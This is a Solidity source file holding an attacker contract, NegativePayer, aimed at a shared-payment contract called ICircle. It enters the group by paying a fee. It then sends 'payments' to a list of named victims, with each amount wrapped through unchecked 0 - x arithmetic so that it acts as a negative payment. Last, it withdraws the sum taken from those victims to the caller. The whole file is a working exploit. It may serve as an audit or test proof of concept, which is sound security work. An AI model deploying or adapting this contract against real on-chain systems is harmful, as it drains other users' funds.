// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface ICircle {
    function enter() external;

    function pay(address to, uint256 amount) external;

    function payAll(address[] calldata to, uint256[] calldata amounts) external;

    function takeOut(address to, uint256 amount) external;
}

interface IToken {
    function transferFrom(address from, address to, uint256 value) external returns (bool);

    function approve(address spender, uint256 value) external returns (bool);
}

/// Pays other members less than nothing.
contract NegativePayer {
    ICircle private immutable circle;
    IToken private immutable token;

    constructor(ICircle circle_, IToken token_) {
        circle = circle_;
        token = token_;
    }

    function run(address[] calldata victims, uint256 fromEach, uint256 fee) external {
        enter(fee);
        for (uint256 i = 0; i < victims.length; i++) circle.pay(victims[i], minus(fromEach));
        circle.takeOut(msg.sender, victims.length * fromEach);
    }

    function runAll(address[] calldata victims, uint256 fromEach, uint256 fee) external {
        enter(fee);
        uint256[] memory amounts = new uint256[](victims.length);
        for (uint256 i = 0; i < victims.length; i++) amounts[i] = minus(fromEach);
        circle.payAll(victims, amounts);
        circle.takeOut(msg.sender, victims.length * fromEach);
    }

    function enter(uint256 fee) private {
        token.transferFrom(msg.sender, address(this), fee);
        token.approve(address(circle), fee);
        circle.enter();
    }

    function minus(uint256 amount) private pure returns (uint256) {
        unchecked {
            return 0 - amount;
        }
    }
}
